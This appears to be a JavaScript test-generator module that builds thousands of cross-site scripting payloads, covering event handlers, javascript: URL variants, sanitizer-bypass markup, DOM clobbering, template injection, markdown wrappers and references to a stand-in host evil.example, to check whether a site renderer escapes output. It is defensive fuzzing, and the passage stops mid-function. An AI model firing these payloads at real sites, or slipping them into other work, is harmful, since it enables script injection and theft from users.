// Payloads: strings that run a script if a page uses them unescaped as markup, as a URL or as code. Each payload calls
// `zq` with its number. Every run contains all vectors listed in this file, and random combinations of these vectors up
// to the requested count.

/** Returns a generator of random numbers below 1 from a seed (mulberry32). */
export function random(seed) {
  let state = seed >>> 0;
  const next = () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32;
  };
  const below = limit => Math.floor(next() * limit);
  return { next, below, pick: list => list[below(list.length)] };
}

/** Placeholder for the function call in a vector. */
const RUN = '\u0001';

/** Ways to call the function that records an execution. */
const CALLS = [
  n => `zq(${n})`,
  n => `window.zq(${n})`,
  n => `top.zq(${n})`,
  n => `zq\`${n}\``,
  n => `self['z'+'q'](${n})`,
  n => `setTimeout('zq(${n})')`,
  n => `alert(${n})`,
  n => `[${n}].map(zq)`,
  n => `import('data:text/javascript,zq(${n})')`,
  n => `(0,eval)('zq(${n})')`,
  n => `z\\u0071(${n})`,
  n => `document.title='pwned-${n}'`,
];

/** Matches a payload in a string and captures its number. */
export const NUMBERED = /(?:zq|z\\+u0071|z'\+'q'\]|alert|pwned-|\[)(?:\(|`|&#(?:40|x28|96);|&lpar;|%28|\\+u0028)*(\d{1,6})(?=\)|`|\]|'|&#|&rpar;|%29|\\+u0029)/;

/** Elements with an attribute that triggers an event, and the event's handler. */
const HANDLERS = [
  'img src=x:x|onerror', 'img src=/favicon.ico|onerror', 'img srcset=x:x|onerror', 'image src=x:x|onerror', 'svg|onload', 'svg|onbegin', 'body|onload',
  'body|onpageshow', 'body|onhashchange', 'html|onclick', 'details open|ontoggle', 'video src=x:x|onerror', 'video|onloadstart',
  'video><source src=x:x|onerror', 'audio src=x:x|onerror', 'audio autoplay|onplay', 'marquee|onstart', 'marquee width=1 loop=1|onfinish',
  'input autofocus|onfocus', 'input type=image src=x:x|onerror', 'select autofocus|onfocus', 'textarea autofocus|onfocus', 'button autofocus|onfocus',
  'keygen autofocus|onfocus', 'a href=# autofocus|onfocus', 'a tabindex=0|onfocusin', 'div tabindex=0 autofocus|onfocus', 'div contenteditable autofocus|onfocus',
  'iframe|onload', 'iframe srcdoc=x|onload', 'object data=x:x|onerror', 'object|onload', 'embed src=x:x|onload', 'embed src=/|onload', 'frameset|onload',
  'link rel=stylesheet href=x:x|onerror', 'link rel=stylesheet href=data:text/css,|onload', 'style|onload', 'script src=x:x|onerror', 'track src=x:x|onerror',
  'video controls><track default src=data:,|oncuechange', 'form|onsubmit', 'form|onformdata', 'p|onclick', 'p|onmouseover', 'p|onpointerenter', 'b|onmouseenter', 'span|onwheel',
  'div|onscroll', 'div|onauxclick', 'h2|onmousemove', 'td|onclick', 'th|onmouseover', 'table|onclick', 'tr|onmouseover', 'caption|onclick', 'li|onmouseover',
  'blockquote|onclick', 'pre|onmouseover', 'code|onclick', 'kbd|onfocus tabindex=0', 'summary|onclick', 'figure|onmouseover', 'meter|onmouseover', 'progress|onclick',
  'ruby|onclick', 'q|onmouseover', 'time|onclick', 'dialog open|onclose', 'dialog open|oncancel', 'template|onload', 'slot|onslotchange', 'canvas|onclick', 'map|onclick',
  'area|onfocus', 'label|onclick', 'fieldset|onclick', 'legend|onclick', 'optgroup|onclick', 'output|oninput', 'isindex type=image src=1|onerror', 'bgsound src=x:x|onerror',
  'math|onclick', 'math><mi|onmouseover', 'math><mtext|onclick', 'math><mo|onpointerover', 'math><annotation-xml encoding=text/html><img src=x:x|onerror',
  'svg><a|onfocus tabindex=0', 'svg><rect width=9 height=9|onclick', 'svg><text|onmouseover', 'svg><image href=x:x|onerror', 'svg><g|onclick', 'svg><use|onclick',
  'svg><animate attributeName=x dur=1s|onbegin', 'svg><animate attributeName=x dur=1ms|onend', 'svg><animate attributeName=x dur=1ms repeatCount=2|onrepeat',
  'svg><set attributeName=x|onbegin', 'svg><animateTransform attributeName=transform|onbegin', 'svg><animateMotion|onbegin', 'svg><discard|onbegin',
  'svg><foreignObject><img src=x:x|onerror', 'svg><desc><img src=x:x|onerror', 'svg><title><img src=x:x|onerror', 'svg><script href=x:x|onerror', 'svg><style|onload',
  'x|onclick', 'x tabindex=0 autofocus|onfocus', 'xss id=x contenteditable|onblur', 'custom-tag|onpointerover', 'noscript|onclick', 'p style=animation-name:x|onanimationstart',
  'p style=transition:all|ontransitionend', 'p class=icon|onanimationend', 'div popover id=zp|onbeforetoggle', 'div hidden=until-found|onbeforematch', 'a|ondragstart draggable=true',
  'p|oncopy', 'p|oncut', 'p|onpaste', 'p|oncontextmenu', 'p|ontouchstart', 'p|onkeydown', 'p|ongotpointercapture', 'p|onselectstart', 'p|oncontentvisibilityautostatechange',
];

/** Ways to write an event handler attribute. `E` is the element, `N` the attribute's name. */
const ATTRIBUTE_FORMS = [
  `<E N=${RUN}>`, `<E N="${RUN}">`, `<E N='${RUN}'>x`, `<E N = ${RUN} >x`, `<E\nN=${RUN}>`, `<E\tN=${RUN}>`, `<E\fN=${RUN}>`, `<E/N=${RUN}>`, `<E//N="${RUN}"//>`,
  `<E a=">" N=${RUN}>`, `<E a='>' N=${RUN}>`, `<E "a N=${RUN}>`, `<E a==" N=${RUN}>`, `<E =a N=${RUN}>`, `<E N=${RUN}`, `<E N="${RUN}`, `<E N=${RUN} x="`, `<E title="a" title=" N=${RUN} ">`,
  `<E alt="&quot; N=${RUN} x=&quot;">`, `<E a=\`>\` N=${RUN}>`, `<E \u0000N=${RUN}>`, `<E N\u0000=${RUN}>`, `<\u0000E N=${RUN}>`, `<E N=\u0000${RUN}>`, `<E a="\\" N=${RUN} b="">`, `<<E N=${RUN}>`,
  `<E\u00a0N=${RUN}>`, `<E N\u00a0=${RUN}>`, `<E\u2028N=${RUN}>`, `<E class="a" N=${RUN} class="b">`, `<E data-x="\n\n" N=${RUN}>`, `<E a="<!--" N=${RUN} b="-->">`, `< E N=${RUN}>`, `<E N=${RUN}></E N=${RUN}>`,
  `</E N=${RUN}>`, `<!--><E N=${RUN}>-->`, `<E N=&#${'122'};q(0)||${RUN}>`, `&lt;E N=${RUN}&gt;`, `&#60;E N=${RUN}&#62;`, `&#x3c;E N=${RUN}&#x3e;`, `\\<E N=${RUN}>`, `\\x3cE N=${RUN}\\x3e`, `\\u003cE N=${RUN}\\u003e`,
  `%3CE N=${RUN}%3E`, `＜E N=${RUN}＞`, `‹E N=${RUN}›`, `ʺ><E N=${RUN}>`, `\u{e0001}<E N=${RUN}>`, `<E\u00adN=${RUN}>`, `<E x\u202eN=${RUN}>`, `<ſcript><E N=${RUN}>`, `\ud83d\ude00"><E N=${RUN}>`,
];

/** Variants of URLs that run a script. */
const URLS = [
  `javascript:${RUN}`, `JaVaScRiPt:${RUN}`, ` javascript:${RUN}`, `\tjavascript:${RUN}`, `java\tscript:${RUN}`, `java\nscript:${RUN}`, `javascript\n:${RUN}`, `java&#9;script:${RUN}`, `java&#10;script:${RUN}`, `java&#13;script:${RUN}`, `java&Tab;script&colon;${RUN}`,
  `java&NewLine;script:${RUN}`, `&#106;avascript:${RUN}`, `&#x6A;avascript:${RUN}`, `&#0000106avascript:${RUN}`, `&#x6Aavascript:${RUN}`, `javascript&colon;${RUN}`, `javascript&#58;${RUN}`, `javascript&#x3a ${RUN}`, `&#1;javascript:${RUN}`,
  `\u0001javascript:${RUN}`.replace('\u0001j', '\u0002j'), `\u001fjavascript:${RUN}`, `\u00a0javascript:${RUN}`, `\u3000javascript:${RUN}`, `\ufeffjavascript:${RUN}`, `\u200bjavascript:${RUN}`, `java\u0000script:${RUN}`, `javascript://%0a${RUN}`, `javascript://x.example/%0d%0a${RUN}`,
  `javascript:/*--></title></style>*/${RUN}`, `javascript:"<svg/onload=${RUN}>"`, `jAvAsCrIpT&colon;${RUN}`, `javascript:void(0);${RUN}`, `javascript:%7a%71(1);${RUN}`, `\\javascript:${RUN}`, `java\\script:${RUN}`, `javascript\\:${RUN}`, `j\\avascript:${RUN}`, `%6aavascript:${RUN}`, `javascript%3a${RUN}`,
  `vbscript:${RUN}`, `livescript:${RUN}`, `mocha:${RUN}`, `view-source:javascript:${RUN}`, `feed:javascript:${RUN}`, `jar:javascript:${RUN}!/`, `data:text/html,<script>${RUN}</script>`, `data:text/html;base64,PHN2Zy9vbmxvYWQ9${RUN}`, `data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>${RUN}</script>`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`, `data:text/javascript,${RUN}`, `data:,${RUN}`, `DATA:text/html,${RUN}`, `data:image/svg+xml;,<svg onload=${RUN}>`, `data:text/xml,<x xmlns='http://www.w3.org/1999/xhtml'><script>${RUN}</script></x>`, `blob:javascript:${RUN}`, `filesystem:javascript:${RUN}`,
  `//evil.example/${RUN}`, `\\\\evil.example/${RUN}`, `/\\evil.example/${RUN}`, `https:evil.example/${RUN}`, `/%2f/evil.example/${RUN}`, `ｊavascript:${RUN}`, `java\u00adscript:${RUN}`, `javascript：${RUN}`,
];

/** Markup in which `%` is replaced with a URL. */
const PLACES = [
  '<a href="%">x</a>', "<a href='%'>x</a>", '<a href=%>x</a>', '<a target=_blank href="%">x</a>', '<a href="#" href="%">x</a>', '<a ping="%" href="https://ok.example">x</a>', '<a xlink:href="%">x</a>', '<form action="%"><input type=submit></form>', '<form><button formaction="%">x</button></form>',
  '<form id=zf></form><button form=zf formaction="%">x</button>', '<input type=image formaction="%">', '<iframe src="%"></iframe>', '<iframe srcdoc="<a href=%>x</a>"></iframe>', '<object data="%"></object>', '<object><param name=src value="%"></object>', '<embed src="%">', '<frameset><frame src="%"></frameset>', '<applet code="%"></applet>',
  '<svg><a xlink:href="%"><text y=9>x</text></a></svg>', '<svg><a href="%"><rect width=9 height=9 /></a></svg>', '<svg><use href="%"/></svg>', '<svg><image href="%"/></svg>', '<svg><script href="%"/></svg>', '<svg><animate attributeName=href values="%"/></svg>', '<svg><a><set attributeName=href to="%"/><text y=9>x</text></a></svg>',
  '<svg><feImage href="%"/></svg>', '<map name=m><area href="%"></map>', '<base href="%">', '<img src="%">', '<img srcset="% 1x">', '<img lowsrc="%">', '<img dynsrc="%">', '<img longdesc="%">', '<picture><source srcset="%"><img></picture>', '<video poster="%"></video>', '<video src="%"></video>', '<audio><source src="%"></audio>', '<track src="%">',
  '<q cite="%">x</q>', '<blockquote cite="%">x</blockquote>', '<del cite="%">x</del>', '<table background="%"><tr><td background="%">x</table>', '<body background="%">', '<math href="%"><mi>x</mi></math>', '<math><mi xlink:href="%">x</mi></math>', '<math><maction actiontype="statusline#%">x</maction></math>', '<link rel=stylesheet href="%">', '<link rel=import href="%">', '<link rel=modulepreload href="%">',
  '<script src="%"></script>', '<script type=module src="%"></script>', '<meta http-equiv=refresh content="0;url=%">', '<meta http-equiv=refresh content="0;%">', '<portal src="%"></portal>', '<div style="background:url(%)">x</div>', "<style>@import '%';</style>", '<p style="behavior:url(%)">x</p>', '<html manifest="%">', '<button popovertarget=zp formaction="%">x</button>',
  '[x](<%>)', '[x](%)', '![x](<%>)', '![x](%)', '[![x](%)](%)', '[x][zr]\n\n[zr]: <%>', '[x][zr]\n\n[zr]: %', '![x][zr]\n\n[zr]: <%>', '<%>', '[x](<%> "t")', '[x]( % )', '[x]: % "t"\n\n[x]', 'x[^z]\n\n[^z]: [y](<%>)', '[%](%)', '[x](https://ok.example "%")', '# [x](<%>)', '| [x](<%>) |\n| - |', '- [x](<%>)', '> [x](<%>)', ':::tip [x](<%>)\ny\n:::', '![x](<%>){width=3}', '[x](<%>){target=_blank}',
  '<a href="https://ok.example" onclick="location=\'%\'">x</a>', 'url(%)', '@import "%"', '%',
];

/** Elements that run or load without interaction, that change the parser's state, or that parsers treat differently. */
const STRUCTURES = [
  `<script>${RUN}</script>`, `<script\n>${RUN}</script\n>`, `<script/x>${RUN}</script>`, `<ScRiPt>${RUN}</sCrIpT>`, `<script type=module>${RUN}</script>`, `<script type=text/jscript>${RUN}</script>`, `<script>${RUN}`, `<script>${RUN}<!--`, `<script>/*<!--<script>*/${RUN}</script>`, `<scr<script>ipt>${RUN}</scr</script>ipt>`, `<script\u0000>${RUN}</script>`,
  `<script src="data:text/javascript,${RUN}"></script>`, `<script src=//evil.example/${RUN}></script>`, `<script type=importmap>{"imports":{"/assets/x.js":"data:text/javascript,${RUN}"}}</script>`, `<script type=speculationrules>{"prerender":[{"urls":["/${RUN}"]}]}</script>`, `<svg><script>${RUN}</script></svg>`, `<svg><script>&#122;q&#40;0&#41;;${RUN}</script></svg>`, `<svg><script href="data:,${RUN}"/></svg>`, `<svg><script xlink:href=data:,${RUN} />`,
  `<math><script>${RUN}</script></math>`, `<style>@import '//evil.example/${RUN}';</style>`, `<style>*{background:url(//evil.example/${RUN})}</style>`, `<style><img src="</style><img src=x:x onerror=${RUN}>"></style>`, `<svg><style><img src=x:x onerror=${RUN}></style></svg>`, `<svg></p><style><a id="</style><img src=x:x onerror=${RUN}>">`, `<svg><style>&lt;/style&gt;&lt;img src=x:x onerror=${RUN}&gt;</style></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x:x onerror=${RUN}&gt;"></style></mglyph></table></mtext></math>`, `<form><math><mtext></form><form><mglyph><style></math><img src=x:x onerror=${RUN}></style></mglyph></form></mtext></math>`, `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${RUN} src=x:x>">`, `<math><mtext><mglyph><mtext><style><img title="</style><img src=x:x onerror=${RUN}>">`,
  `<math><annotation-xml encoding="text/html"><style><img title="</style><img src=x:x onerror=${RUN}>">`, `<math><mi><svg><mi><style><img src=x:x onerror=${RUN}>`, `<svg><foreignObject><math><mi><style><img src=x:x onerror=${RUN}>`, `<svg><title><style><img title="</style></title></svg><img src=x:x onerror=${RUN}>">`, `<svg><desc><noscript><img title="</noscript><img src=x:x onerror=${RUN}>">`, `<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><textarea><a title="</textarea><img src=x:x onerror=${RUN}>">`,
  `<svg><foreignObject><body><img src=x:x onerror=${RUN}></body></foreignObject></svg>`, `<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg>`, `<svg><a><animate attributeName=href values="javascript:${RUN}"/><text y=9>x</text></a></svg>`, `<svg><set attributeName=onmouseover to="${RUN}"/></svg>`, `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x:x' onerror='${RUN}'/></svg>#x"/></svg>`, `<svg><handler type="text/javascript" ev:event=load>${RUN}</handler></svg>`,
  `<template><img src=x:x onerror=${RUN}></template>`, `<div><template shadowrootmode=open><img src=x:x onerror=${RUN}></template></div>`, `<noscript><p title="</noscript><img src=x:x onerror=${RUN}>"></noscript>`, `<noembed><img title="</noembed><img src=x:x onerror=${RUN}>"></noembed>`, `<noframes><img title="</noframes><img src=x:x onerror=${RUN}>"></noframes>`, `<xmp><img title="</xmp><img src=x:x onerror=${RUN}>"></xmp>`, `<title><img title="</title><img src=x:x onerror=${RUN}>"></title>`,
  `<textarea><img title="</textarea><img src=x:x onerror=${RUN}>"></textarea>`, `<iframe><img title="</iframe><img src=x:x onerror=${RUN}>"></iframe>`, `<plaintext><img src=x:x onerror=${RUN}>`, `<select><img src=x:x onerror=${RUN}></select>`, `<select><option><style></option></select><img src=x:x onerror=${RUN}></style>`, `<select><script>${RUN}</script></select>`, `<table><img src=x:x onerror=${RUN}></table>`, `<table><tr><td><form action="javascript:${RUN}"><td><input type=submit></table>`, `<table><svg onload=${RUN}>`, `<table><caption><svg><p><img src=x:x onerror=${RUN}>`,
  `<a><a><a href="javascript:${RUN}">x</a></a>`, `<p><svg><p><style><!--</style><img src=x:x onerror=${RUN}>-->`, `<b><p></b><img src=x:x onerror=${RUN}></p>`, `<div><p><table><a href="javascript:${RUN}">x</table>`, `<iframe srcdoc="<img src=x:x onerror=parent.${RUN}>"></iframe>`, `<iframe srcdoc="&lt;script&gt;parent.${RUN}&lt;/script&gt;"></iframe>`, `<iframe src="data:text/html,<script>parent.${RUN}</script>"></iframe>`, `<iframe name="${RUN}" src="javascript:eval(name)"></iframe>`, `<iframe src=//evil.example/${RUN}></iframe>`, `<iframe sandbox="allow-scripts allow-same-origin" srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<embed src="data:text/html,<script>parent.${RUN}</script>">`, `<embed code=//evil.example/${RUN} type=image/svg+xml>`, `<object data="data:text/html,<script>parent.${RUN}</script>"></object>`, `<object type=text/html data=//evil.example/${RUN}>`, `<portal src="javascript:${RUN}">`, `<fencedframe src="//evil.example/${RUN}"></fencedframe>`, `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`, `<meta http-equiv=refresh content="0;url=//evil.example/${RUN}">`, `<meta http-equiv=Content-Security-Policy content="script-src 'none'/*${RUN}*/">`, `<meta http-equiv=set-cookie content="a=${RUN}">`, `<meta name=referrer content="unsafe-url/*${RUN}*/">`,
  `<link rel=stylesheet href="data:text/css,*{display:none}" onload=${RUN}>`, `<link rel=import href="data:text/html,x" onload=${RUN}>`, `<link rel=prefetch href="//evil.example/${RUN}">`, `<link rel=stylesheet href="//evil.example/${RUN}">`, `<link rel=modulepreload href="//evil.example/${RUN}">`, `<base href="//evil.example/${RUN}/">`, `<base target="${RUN}">`, `<form action="//evil.example/${RUN}"><input name=a><button>x</button></form>`, `<button form=x formaction="javascript:${RUN}">x</button>`, `<form><input name=attributes><input name=children onfocus=${RUN} autofocus></form>`,
  `<img id=zq name=zq alt="${RUN}">`, `<a id=quire href="javascript:${RUN}">x</a>`, `<form id=document name=body alt="${RUN}">`, `<p id=quire-page>{"page":"${RUN}"}</p>`, `<a id=quire-root name=quire-page href="//evil.example/${RUN}">x</a>`, `<img name=getElementById alt="${RUN}">`, `<iframe name=__QUIRE__ srcdoc="<script>parent.${RUN}</script>"></iframe>`, `<a id=defaultView><a id=defaultView name=x href="javascript:${RUN}">x</a>`, `<div id=quire-search data-quire-search="${RUN}" data-props='{"x":"${RUN}"}'>x</div>`, `<output id=currentScript name=src alt="${RUN}">x</output>`,
  `<quire-island data-module="data:text/javascript,${RUN}" data-export=default data-when=idle data-props="{}"><b>x</b></quire-island>`, `<quire-island data-component=Tabs data-when=idle data-props="${RUN}"><b>x</b></quire-island>`, `<quire-html data-slot=0><img src=x:x onerror=${RUN}></quire-html>`, `<div dangerouslySetInnerHTML="<img src=x:x onerror=${RUN}>">x</div>`, `<script type="application/json" id="quire-page">{"page":"${RUN}"}</script>`, `<div is="x-${RUN}" slot=x part=x>x</div>`, `<div data-url="javascript:${RUN}" class="page-copy edit-link">x</div>`, `<button class=code-copy data-code="${RUN}" onclick=${RUN}>x</button>`,
  `<!--><img src=x:x onerror=${RUN}>-->`, `<!---><img src=x:x onerror=${RUN}>-->`, `<!-- --!><img src=x:x onerror=${RUN}>-->`, `<!-- --\n><img src=x:x onerror=${RUN}>-->`, `<!--\n\n<img src=x:x onerror=${RUN}>`, `<!--[if gte IE 4]><script>${RUN}</script><![endif]-->`, `<![CDATA[<img src=x:x onerror=${RUN}>]]>`, `<svg><![CDATA[><img src=x:x onerror=${RUN}>]]>`, `<math><![CDATA[</math><img src=x:x onerror=${RUN}>]]></math>`, `]]><img src=x:x onerror=${RUN}><![CDATA[`, `]]></content><script xmlns="http://www.w3.org/1999/xhtml">${RUN}</script>`,
  `<?xml-stylesheet href="javascript:${RUN}"?>`, `<?x ><img src=x:x onerror=${RUN}>?>`, `<?php echo '<img src=x:x onerror=${RUN}>' ?>`, `<!x ><img src=x:x onerror=${RUN}>`, `<!DOCTYPE x [<!ENTITY y "<img src=x:x onerror=${RUN}>">]>&y;`, `<!ATTLIST img onerror CDATA "${RUN}">`, `</ ><img src=x:x onerror=${RUN}>`, `</x/><img src=x:x onerror=${RUN}>`, `<%<img src=x:x onerror=${RUN}>%>`, `<div\n<img src=x:x onerror=${RUN}\n`, `<div title="\n\n<img src=x:x onerror=${RUN}>`, `<a<img src=x:x onerror=${RUN}>>x`, `<a title="</a><img src=x:x onerror=${RUN}>">x</a>`, `<img title='"><img src=x:x onerror=${RUN}>'>`, `<img src="x:x"onerror="${RUN}"`, `<img src=x:x onerror=${RUN}//`, `<svg/onload=${RUN}//`, `<svg onload=${RUN}<!--`,
  `</div></div></div></main></div></body></html><script>${RUN}</script>`, `</p></div><div id=quire-root><img src=x:x onerror=${RUN}>`, `</article></section></main><main id=quire-main><img src=x:x onerror=${RUN}>`, `</script><script>${RUN}</script>`, `</script><!--<script>${RUN}</script>`, `<!--<script>${RUN}</script>`, `</style><script>${RUN}</script>`, `</title><script>${RUN}</script>`, `</textarea><script>${RUN}</script>`, `</svg></math><script>${RUN}</script>`, `</code></pre><img src=x:x onerror=${RUN}>`, `</summary></details><img src=x:x onerror=${RUN}>`, `</head><body onload=${RUN}>`, `--><img src=x:x onerror=${RUN}><!--`, `*/</style><img src=x:x onerror=${RUN}>`, `"}]}</script><script>${RUN}</script>`, `\\"}]}</script><script>${RUN}</script>`,
  `"><img src=x:x onerror=${RUN}>`, `'><img src=x:x onerror=${RUN}>`, `\`><img src=x:x onerror=${RUN}>`, `" onmouseover="${RUN}`, `' onmouseover='${RUN}`, `" autofocus tabindex=1 onfocus="${RUN}" x="`, ` onmouseover=${RUN} `, `x onmouseover=${RUN}`, `&quot; onmouseover=&quot;${RUN}`, `&#34;&gt;&lt;img src=x:x onerror=${RUN}&gt;`, `&amp;lt;img src=x:x onerror=${RUN}&amp;gt;`, `\\" onmouseover=\\"${RUN}`, `\\\\" onmouseover="${RUN}`, `";${RUN};"`, `';${RUN};'`, `\${${RUN}}`, `{{${RUN}}}`, `{{constructor.constructor("${RUN}")()}}`, `{${RUN}}`, `<%= ${RUN} %>`, `#{${RUN}}`, `[[${RUN}]]`, `{{{${RUN}}}}`, `{%${RUN}%}`, `{{'<img src=x:x onerror=${RUN}>'}}`, `<div v-html="'<img src=x:x onerror=${RUN}>'">x</div>`, `<div :onclick="${RUN}" @click="${RUN}" v-on:click="${RUN}">x</div>`, `<component :is="'script'">${RUN}</component>`,
  `\u2028${RUN}\u2029`, `\ufeff<img src=x:x onerror=${RUN}>`, `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`, `\u00bcscript\u00be${RUN}\u00bc/script\u00be`, `\u001b$B<script>${RUN}</script>`, `\u001b(J\\<img src=x:x onerror=${RUN}>`, `\u202e<img src=x:x onerror=${RUN}>\u202c`, `\u0085<img src=x:x onerror=${RUN}>`, `<img\u000bsrc=x:x\u000bonerror=${RUN}>`, `<İmg src=x:x onerror=${RUN}>`, `<ıframe onload=${RUN}>`, `<ﬃ onclick=${RUN}>`, `<x\u0301 onclick=${RUN}>x`,
  `<script>throw onerror=eval,'=${RUN}'</script>`, `<svg><animate xlink:href=#zx attributeName=href dur=5s keytimes=0;0;1 values="https://ok.example;javascript:${RUN};0"/><a id=zx><text y=9>x</text></a>`, `<input type=hidden accesskey=X popover id=zp onbeforetoggle=${RUN}><button popovertarget=zp autofocus>x</button>`, `<video><source onerror=${RUN}></video>`, `<img srcset=",,,,,x:x" onerror=${RUN}>`, `<xss style="display:block;width:9px" onscrollend=${RUN}><br></xss>`, `<dialog open onclose=${RUN}><form method=dialog><button autofocus>x</button></form></dialog>`,
];

/** Markdown and its extensions. `%` is replaced with a vector. */
const MARKDOWN = [
  'x %', '**%**', '*%*', '~~%~~', '==%==', '^%^', '`%`', '``%', '# %', '## % {#z}', '## x {#%}', '## x {#z onclick=% .%}', '## x {%}', '% \n===', '> %', '> > %', '- %', '1. %', '- [ ] %', '- [x] %\n  %', '| % |\n| - |\n| % |', '| x |\n| :-: |\n| % | % |', '[%](https://ok.example)', '[x](https://ok.example "%")', "[x](https://ok.example '%')", '[x](https://ok.example (%))', '![%](https://ok.example/a.png)', '![x](https://ok.example/a.png "%")', '![](<%>)', '![x](./zz.png){%}', '![x](./zz.png){width=% height=%}',
  '[zd]: https://ok.example "%"\n\n[zd]', '[zd]: <%> "%"\n\n[zd] ![zd]', '[%]: https://ok.example\n\n[%]', '<https://ok.example/%>', 'https://ok.example/%', 'www.ok.example/%', 'mailto:x@ok.example?%', '<x@ok.example%>', 'x[^%]\n\n[^%]: y', 'x[^zn]\n\n[^zn]: %', ':::tip %\nx\n:::', ':::tip{title="%"}\nx\n:::', ':::tip[%]\nx\n:::', '::: details %\nx\n:::', '::: warning % {open}\n%\n:::', ':::%\nx\n:::', '::: code-group\n\n```js [%]\nx\n```\n\n:::', '> [!NOTE] %\n> %', '> [!%]\n> x', ':tada%:', ':%:', '[[toc]] %', '[[%]]',
  '<div>\n%\n</div>', '<div>\n\n%\n\n</div>', '<details><summary>%</summary>\n\n%\n\n</details>', '<pre>\n%\n</pre>', '<!-- % -->', '<!-- --> %', '<? % ?>', '<!X %>', '<![CDATA[ % ]]>', '<script>\n%\n</script>', '<style>\n%\n</style>', '<textarea>\n%\n</textarea>', '<table>\n<tr><td>%</td></tr>\n</table>', '<p title="%">x</p>', "<p title='%'>x</p>", '<p title=%>x</p>', '<a href="https://ok.example?%">x</a>', '<img alt="%" src="https://ok.example/a.png">', '<span class="%">x</span>', '<span id="%">x</span>', '<a name="%">x</a>', '<div align="%">x</div>', '<td width="%">x</td>', '<details open name="%">x</details>', '<input type=checkbox value="%">', '<ol start="%" type="%"><li>x</ol>', '<video src="/a.mp4" title="%"></video>', '<font face="%" color="%">x</font>', '<time datetime="%">x</time>', '<p aria-label="%">x</p>', '<p lang="%" dir="%">x</p>', '<img src="https://ok.example/a.png" sizes="%" srcset="/a.png 1x, % 2x">',
  '    %', '\t%', '```\n%\n```', '```js %\nx\n```', '```%\nx\n```', '```js title="%"\nx\n```', '~~~%\n%\n~~~', '```js {%}\nx\n```', '```js [%]\nx\n```', '```html\n%\n```', '```js\n// [!code %]\n```', '```diff\n+%\n-%\n```', '{{#include %}}', '{{#title %}}', '{{#playground % editable}}', '{{#rustdoc_include %}}', '<<< %', '<<< @/%{1,2 js}[%]', '<!--@include: %-->', '{{ % }}', '<Badge type="%" text="%" />', '<script setup>\n%\n</script>', '\\%', '&lpar;%&rpar;', '%\\\n%', '%  \n%', '***%***', '[%][%]', '![[%]]', '!!%!!', '++%++', '$%$', '$$\n%\n$$', '%%', '"%"', '<%', '%>', '{%}', '<b>%', '</b>%', '<b %>x</b>', '<b x="%>x</b>',
];

const ENDS = ['"', "'", '`', '>', '">', "'>", '-->', ']]>', '</title>', '</style>', '</script>', '</textarea>', '</svg>', '</math>', '</a>', '</p>', '</pre></code>', '\\"', '\\', '\n\n', '\u0000', '</noscript>', '/>', '}', '{{', '*/', '&quot;>', '--!>', ')', '](x)'];
const WRAPS = ['<svg>%</svg>', '<math><mtext>%</mtext></math>', '<table><tr><td>%</table>', '<select>%</select>', '<noscript>%</noscript>', '<template>%</template>', '<a title="%">x</a>', '<style>%</style>', '<svg><style>%', '<svg><desc>%', '<svg><foreignObject>%', '<xmp>%</xmp>', '<div>%', '<p>%</p>', '<!--%-->', '<details open><summary>%', '<ruby><rt>%', '<form>%', '<object>%', '<dl><dt>%', '<ul><li>%', '<title>%</title>', '<textarea>%</textarea>', '<iframe>%</iframe>', '<b><i><u>%', '<math><annotation-xml encoding="text/html">%', '<a href="https://ok.example">%</a>', '<pre>%</pre>', '<code>%</code>', '<sub>%</sub>'];

const BASIC = [`<img src=x:x onerror=${RUN}>`, `<svg/onload=${RUN}>`, `<script>${RUN}</script>`, `" onmouseover="${RUN}`, `javascript:${RUN}`, `<a href="javascript:${RUN}">x</a>`, `<iframe srcdoc="<script>parent.${RUN}</script>">`, `<b onclick=${RUN}>x</b>`];

const handler = (element, form) => {
  const [name, event] = element.split('|');
  const [eventName, ...attributes] = event.split(' ');
  return form.replaceAll('E', () => [name, ...attributes].join(' ')).replaceAll('N', () => eventName);
};

function change(text, { pick, below, next }) {
  switch (below(11)) {
    case 0:
      return pick(ENDS) + text;
    case 1:
      return pick(WRAPS).replace('%', () => text);
    case 2:
      return text.replace(/[a-z]/gi, char => (char !== RUN && next() < 0.3 ? char.toUpperCase() : char));
    case 3:
      return text.replace(/ /g, () => pick(['/', '\t', '\n', '\f', '  ', ' / ', '\r\n']));
    case 4:
      return text.replace(/[a-z:<>"'=]/gi, char => (next() < 0.15 ? `&#${pick(['', 'x'])}${char.charCodeAt(0)}${pick([';', ''])}`.replace(/x(\d+)/, (_, code) => `x${Number(code).toString(16)}`) : char));
    case 5:
      return text.slice(0, 1 + below(text.length)) + pick(['\u0000', '\u00ad', '\u200b', '\\', '<', '"', "'", '&', '<!--', '\n']) + text.slice(1 + below(text.length));
    case 6:
      return pick(MARKDOWN).replaceAll('%', () => text);
    case 7:
      return text.slice(0, Math.max(text.indexOf(RUN) + 1, text.length - 1 - below(6)));
    case 8:
      return pick(WRAPS).replace('%', () => pick(ENDS) + text);
    case 9:
      return text + text;
    default:
      return pick(MARKDOWN).replaceAll('%', () => change(text, { pick, below, next }));
  }
}

function base({ pick, below }) {
  switch (below(6)) {
    case 0:
    case 1:
      return handler(pick(HANDLERS), pick(ATTRIBUTE_FORMS));
    case 2:
      return pick(PLACES).replaceAll('%', () => pick(URLS));
    case 3:
      return pick(MARKDOWN).replaceAll('%', () => pick(BASIC));
    default:
      return pick(STRUCTURES);
  }
}

function* core() {
  yield* STRUCTURES;
  for (const element of HANDLERS) yield handler(element, ATTRIBUTE_FORMS[0]);
  for (const form of ATTRIBUTE_FORMS) yield handler(HANDLERS[0], form);
  for (const url of URLS) for (const template of ['<a href="%">x</a>', '[x](<%>)', '%']) yield template.replace('%', () => url);
